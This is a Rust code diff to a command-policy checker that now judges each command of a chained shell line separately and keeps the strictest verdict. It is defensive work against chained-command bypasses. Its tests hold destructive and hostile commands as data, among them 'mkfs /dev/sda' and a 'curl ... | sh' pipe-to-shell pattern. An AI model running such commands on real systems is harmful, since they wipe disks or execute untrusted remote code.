@@ -13,7 +13,7 @@ use std::sync::Arc;
 
 use regex::Regex;
 
-use super::words::{contains, pieces};
+use super::words::{commands, contains, Command};
 use crate::access::Role;
 use crate::error::{AppError, ErrorCode};
 
@@ -36,6 +36,17 @@ impl RuleAction {
             RuleAction::Allow => "allow",
             RuleAction::Deny => "deny",
             RuleAction::Review => "review",
+        }
+    }
+}
+
+impl RuleAction {
+    /// How strict it is: allow 0, review 1, deny 2.
+    const fn severity(self) -> u8 {
+        match self {
+            RuleAction::Allow => 0,
+            RuleAction::Review => 1,
+            RuleAction::Deny => 2,
         }
     }
 }
@@ -89,10 +100,20 @@ impl Matcher {
         Ok(Matcher::Words(out))
     }
 
-    fn matches(&self, command: &str, words: &[super::words::Piece<'_>]) -> bool {
+    /// Whether it matches the whole line as written (a regex may span
+    /// commands; `words` stand in one command, so they never do here).
+    fn matches_line(&self, line: &str) -> bool {
         match self {
-            Matcher::Regex(re) => re.is_match(command),
-            Matcher::Words(phrases) => phrases.iter().any(|(_, split)| contains(words, split)),
+            Matcher::Regex(re) => re.is_match(line),
+            Matcher::Words(_) => false,
+        }
+    }
+
+    /// Whether it matches one command of the line (quotes taken off).
+    fn matches_command(&self, command: &Command) -> bool {
+        match self {
+            Matcher::Regex(re) => re.is_match(&command.text),
+            Matcher::Words(phrases) => phrases.iter().any(|(_, split)| contains(&command.words, split)),
         }
     }
 }
@@ -186,8 +207,13 @@ impl CommandPolicy {
     }
 
     /// The verdict on `command`, run on a server with `tags` by a caller
-    /// in `role`. Cost: one pass to cut the command into words, then each
-    /// rule in order until one matches.
+    /// in `role`. Each command of the line (`;`, `&&`, `|`, a line break
+    /// ... separate them; quotes come off) gets the first rule that matches
+    /// it, or the default; a rule whose regex matches the whole line as
+    /// written counts too; the strictest of these verdicts wins (deny, then
+    /// review, then allow), so `ls; reboot` is not allowed by a rule for
+    /// `ls`. Cost: one pass to cut the line, then the rules in order for
+    /// each command.
     pub fn judge(&self, command: &str, tags: &[String], role: Role) -> Verdict {
         if self.is_open() {
             return Verdict {
@@ -195,19 +221,31 @@ impl CommandPolicy {
                 rule: None,
             };
         }
-        let words = pieces(command);
-        for rule in &self.rules {
-            if rule.applies(tags, role) && rule.matcher.matches(command, &words) {
-                return Verdict {
-                    action: rule.action,
-                    rule: Some(rule.clone()),
-                };
-            }
-        }
-        Verdict {
+        let applying: Vec<&Arc<CommandRule>> = self.rules.iter().filter(|r| r.applies(tags, role)).collect();
+        let of = |rule: &Arc<CommandRule>| Verdict {
+            action: rule.action,
+            rule: Some(rule.clone()),
+        };
+        let default = Verdict {
             action: self.default,
             rule: None,
+        };
+        let mut verdict = applying
+            .iter()
+            .find(|r| r.matcher.matches_line(command))
+            .map(|r| of(r));
+        let parts = commands(command);
+        for part in &parts {
+            let found = applying
+                .iter()
+                .find(|r| r.matcher.matches_command(part))
+                .map_or_else(|| default.clone(), |r| of(r));
+            verdict = Some(match verdict {
+                Some(so_far) if so_far.action.severity() >= found.action.severity() => so_far,
+                _ => found,
+            });
         }
+        verdict.unwrap_or(default)
     }
 }
 
@@ -332,6 +370,80 @@ mod tests {
         assert_eq!(judge("systemctl  restart nginx").action, RuleAction::Review);
         assert_eq!(judge("uptime").rule_name(), DEFAULT_RULE);
         assert_eq!(judge("uptime").action, RuleAction::Allow);
+    }
+
+    #[test]
+    fn every_command_of_a_line_is_judged_and_the_strictest_wins() {
+        let policy = CommandPolicy::new(
+            vec![
+                rule(
+                    "ok-tmp",
+                    Matcher::regex(r"^rm -rf /tmp/").unwrap(),
+                    RuleAction::Allow,
+                ),
+                rule("no-mkfs", words(&["mkfs"]), RuleAction::Deny),
+                rule(
+                    "restarts",
+                    Matcher::regex(r"systemctl\s+restart").unwrap(),
+                    RuleAction::Review,
+                ),
+            ],
+            RuleAction::Allow,
+        )
+        .unwrap();
+        let judge = |c: &str| policy.judge(c, &[], Role::Operator);
+        // an allowed first command does not carry a denied second one
+        assert_eq!(judge("rm -rf /tmp/x; mkfs /dev/sda").rule_name(), "no-mkfs");
+        // deny is stricter than review, wherever it stands
+        assert_eq!(
+            judge("systemctl restart x && mkfs /dev/sda").action,
+            RuleAction::Deny
+        );
+        assert_eq!(judge("ls | systemctl restart x").action, RuleAction::Review);
+        // a quoted parameter is judged as the shell will run it
+        assert_eq!(judge("systemctl 'restart' 'nginx'").action, RuleAction::Review);
+
+        // under a default deny, every command of the line must be allowed
+        let strict = CommandPolicy::new(
+            vec![rule("ls", words(&["ls"]), RuleAction::Allow)],
+            RuleAction::Deny,
+        )
+        .unwrap();
+        assert_eq!(
+            strict.judge("ls -l", &[], Role::Operator).action,
+            RuleAction::Allow
+        );
+        assert_eq!(
+            strict.judge("ls; reboot", &[], Role::Operator).action,
+            RuleAction::Deny
+        );
+        assert_eq!(
+            strict.judge("ls; reboot", &[], Role::Operator).rule_name(),
+            DEFAULT_RULE
+        );
+    }
+
+    #[test]
+    fn a_regex_may_match_across_the_commands_of_a_line() {
+        let policy = CommandPolicy::new(
+            vec![rule(
+                "pipe-to-shell",
+                Matcher::regex(r"curl .*\| *sh").unwrap(),
+                RuleAction::Deny,
+            )],
+            RuleAction::Allow,
+        )
+        .unwrap();
+        assert_eq!(
+            policy
+                .judge("curl http://x/i.sh | sh", &[], Role::Operator)
+                .action,
+            RuleAction::Deny
+        );
+        assert_eq!(
+            policy.judge("curl http://x/i.sh", &[], Role::Operator).action,
+            RuleAction::Allow
+        );
     }
 
     #[test]
